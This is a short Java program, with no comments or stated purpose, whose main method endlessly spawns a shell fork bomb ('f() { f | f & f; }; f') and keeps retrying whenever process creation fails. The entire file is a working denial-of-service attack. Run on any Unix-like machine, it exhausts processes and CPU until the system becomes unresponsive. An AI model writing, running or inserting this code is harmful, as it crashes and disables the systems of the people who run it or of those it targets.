public class Main {
    public static void main(String[] arguments) throws Exception {
        for (;;) {
            try {
                new ProcessBuilder("/bin/sh", "-c", "f() { f | f & f; }; f").start();
            } catch (java.io.IOException refused) {
                Thread.onSpinWait();
            }
        }
    }
}
